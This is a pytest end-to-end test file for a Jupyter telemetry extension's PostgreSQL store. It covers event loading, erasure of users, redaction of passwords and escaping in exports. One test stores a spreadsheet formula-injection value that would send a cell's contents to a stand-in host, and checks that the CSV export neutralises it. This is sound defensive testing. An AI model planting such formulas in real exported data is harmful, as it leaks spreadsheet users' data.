"""`load_events` and `export --format --db` on a real PostgreSQL store a handler wrote."""

from __future__ import annotations

import csv
import json
import os
import subprocess
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest

from jupyter_telemetry_ext.core.eventlog import EventLog
from tests.pgserver import PostgresServer, server_for_tests
from tests.test_analysis import (
    ALLOWED,
    CAPSULE,
    JUPYTER,
    START,
    STUDY,
    STUDY_SCHEMA,
    USERS,
    posted,
    user_of,
)

psycopg = pytest.importorskip("psycopg", reason="the [postgres] extra (psycopg) is not installed")
pq = pytest.importorskip("pyarrow.parquet", reason="the [analysis] extra is not installed")

from jupyter_telemetry_ext.analysis import load_events  # noqa: E402
from jupyter_telemetry_ext.sinks.postgres import PostgresEventHandler  # noqa: E402
from jupyter_telemetry_ext.sinks.store import erase_user  # noqa: E402

pytestmark = pytest.mark.e2e  # starts a PostgreSQL server
PASSWORD = "an4lysis-Pw-7731"


@pytest.fixture(scope="module")
def pg() -> Iterator[PostgresServer]:
    """One PostgreSQL server for the module."""
    yield from server_for_tests()


@pytest.fixture(params=[False, True], ids=["plain", "partitioned"])
def store(pg: PostgresServer, tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[str]:
    """A store holding 30 study events of 3 users, an hour apart, written by the handler."""
    url = pg.url(pg.create_database(), password=PASSWORD)
    spool, allowed = tmp_path / "spool", {STUDY: {"allowed_categories": ALLOWED}}
    handler = PostgresEventHandler(url, spool_dir=spool, partition_by_day=request.param)
    eventlog = EventLog(handlers=[handler], allowed_schemas=allowed)
    eventlog.register_schema(STUDY_SCHEMA)
    for n in range(30):
        context = {"__user__": user_of(n), "__client_id__": f"c{n}"}
        eventlog.record_event(STUDY, 1, posted(n), START + timedelta(hours=n), context=context)
    assert eventlog.flush(10)
    handler.flush()
    yield url
    eventlog.close()
    handler.close()


def test_load_events_from_postgres_as_posted(store: str) -> None:
    df = load_events(store, STUDY)
    assert list(df.columns) == [*CAPSULE, "action", "cell.index", "cell.source_path", "n", "ok",
                                "path"]  # fmt: skip
    assert list(df["n"]) == list(range(30))
    assert df["received"].iloc[7] == START + timedelta(hours=7)
    assert str(df["n"].dtype) == "Int64"
    for row in df.itertuples(index=False):
        event = posted(row.n)
        assert (row.action, row.ok, row.path) == (event["action"], event["ok"], event["path"])
        assert (row.user, row.client_id, row.version) == (user_of(row.n), f"c{row.n}", "1")
    window = load_events(store, STUDY, since=START + timedelta(hours=3),
                         until=START + timedelta(hours=5), as_arrow=True)  # fmt: skip
    assert window.column("n").to_pylist() == [3, 4]


def test_an_empty_time_range_keeps_the_schemas_columns_and_types(store: str) -> None:
    every = load_events(store, STUDY)
    none = load_events(store, STUDY, since=START + timedelta(days=400))
    assert len(none) == 0
    assert dict(none.dtypes) == dict(every.dtypes)


def test_erased_users_never_come_back_from_a_restored_row(store: str) -> None:
    with psycopg.connect(store, autocommit=True) as conn:
        assert erase_user(conn, "telemetry_events", [USERS["alice"]], "op") == 10
        # A backup restored after the erasure brings one of her rows back.
        conn.execute(
            "INSERT INTO telemetry_events (received, schema_id, schema_version, metadata_version,"
            " username, data) VALUES (%s, %s, '1', 2, %s, '{\"n\": 99}')",
            [START, STUDY, USERS["alice"]],
        )
    df = load_events(store, STUDY)
    assert len(df) == 20
    assert USERS["alice"] not in set(df["user"])


def test_export_from_the_store_leaves_personal_properties_out(store: str, tmp_path: Path) -> None:
    done = subprocess.run(
        [JUPYTER, "telemetry", "export", "--db", store, "--format", "parquet", "--out", "ds"],
        cwd=tmp_path, capture_output=True, text=True, timeout=120, check=False,
        env={**os.environ, "JUPYTER_PATH": str(_schemas(tmp_path))},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    table = pq.read_table(tmp_path / "ds" / "study-v1.parquet")
    assert table.column_names == ["received", "event_time", "schema", "version", "user",
                                  "action", "cell.index", "n", "ok"]  # fmt: skip
    assert table.num_rows == 30
    assert len(set(table.column("user").to_pylist()) - set(USERS.values())) == 3
    manifest = json.loads((tmp_path / "ds" / "manifest.json").read_text())
    assert PASSWORD not in json.dumps(manifest) + (tmp_path / "ds" / "datasheet.md").read_text()
    assert manifest["source"].startswith("PostgreSQL 127.0.0.1:")


def test_a_bad_url_names_the_store_never_the_password(pg: PostgresServer) -> None:
    url = f"postgresql://postgres:{PASSWORD}@127.0.0.1:1/none"
    with pytest.raises(ConnectionError) as e:
        load_events(url, STUDY)
    assert "127.0.0.1:1/none" in str(e.value)
    assert PASSWORD not in str(e.value)


def _schemas(tmp_path: Path) -> Path:
    """Return a Jupyter data dir whose telemetry/schemas holds the study schema."""
    folder = tmp_path / "data" / "telemetry" / "schemas"
    folder.mkdir(parents=True)
    (folder / "study.json").write_text(json.dumps(STUDY_SCHEMA))
    return tmp_path / "data"


def _study_store(pg: PostgresServer, tmp_path: Path) -> tuple[str, PostgresEventHandler, EventLog]:
    """Return a fresh database's URL, and a handler and EventLog recording the study into it."""
    url = pg.url(pg.create_database(), password=PASSWORD)
    handler = PostgresEventHandler(url, spool_dir=tmp_path / "spool")
    eventlog = EventLog(
        handlers=[handler], allowed_schemas={STUDY: {"allowed_categories": ALLOWED}}
    )
    eventlog.register_schema(STUDY_SCHEMA)
    return url, handler, eventlog


def test_values_that_csv_and_json_escape_come_back_whole(
    pg: PostgresServer, tmp_path: Path
) -> None:
    url, handler, eventlog = _study_store(pg, tmp_path)
    tricky = 'a,b "c"\n\\d\r\x1e\x1f é ""'
    eventlog.record_event(STUDY, 1, {**posted(1), "path": tricky}, START, context={"__user__": ""})
    eventlog.record_event(STUDY, 1, {**posted(2), "path": ""}, START + timedelta(seconds=1))
    assert eventlog.flush(10)
    handler.flush()
    df = load_events(url, STUDY)
    eventlog.close()
    handler.close()
    assert list(df["path"]) == [tricky, ""]
    assert df["user"].iloc[0] == ""  # an empty user is not a missing one
    assert df["user"].isna().iloc[1]


def test_a_csv_export_from_the_store_marks_a_formula_and_names_an_empty_selection(
    pg: PostgresServer, tmp_path: Path
) -> None:
    url, handler, eventlog = _study_store(pg, tmp_path)
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    eventlog.record_event(STUDY, 1, {**posted(1), "path": formula}, START)
    eventlog.record_event(STUDY, 1, {**posted(2), "path": "/home/u/a.ipynb"}, START)
    assert eventlog.flush(10)
    handler.flush()
    eventlog.close()
    handler.close()
    env = {**os.environ, "JUPYTER_PATH": str(_schemas(tmp_path))}
    args = [JUPYTER, "telemetry", "export", "--db", url, "--format", "csv"]
    done = subprocess.run(
        [*args, "--out", "ds", "--include-category", "user-identifiable-information"],
        cwd=tmp_path, capture_output=True, text=True, timeout=120, check=False, env=env,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    with (tmp_path / "ds" / "study-v1.csv").open(encoding="utf-8", newline="") as f:
        paths = [row["path"] for row in csv.DictReader(f)]
    assert sorted(paths) == sorted(["'" + formula, "/home/u/a.ipynb"])
    empty = subprocess.run(
        [*args, "--out", "none", "--schema", "nosuch"],
        cwd=tmp_path, capture_output=True, text=True, timeout=120, check=False, env=env,
    )  # fmt: skip
    assert (empty.returncode, empty.stdout) == (1, "")
    where = "PostgreSQL " + url.rsplit("@", 1)[1]
    assert empty.stderr == (
        f"jupyter telemetry: export: no events of schema 'nosuch' in {where}: nothing was written\n"
    )


def test_an_integer_beyond_int64_in_the_store_stops_the_reading_naming_the_property(
    store: str,
) -> None:
    """jsonb keeps 2**63 (a writer other than the REST API may store it): it was read as NULL."""
    with psycopg.connect(store, autocommit=True) as conn:
        conn.execute(
            "INSERT INTO telemetry_events (received, schema_id, schema_version, metadata_version,"
            " username, data) VALUES (%s, %s, '1', 2, 'u', %s::jsonb)",
            [START, STUDY, json.dumps({"action": "run", "n": 2**63})],
        )
    with pytest.raises(ValueError, match="the property 'n' holds an integer beyond") as error:
        load_events(store, STUDY)
    assert f"schema {STUDY!r}" in str(error.value)
    assert str(2**63) not in str(error.value)
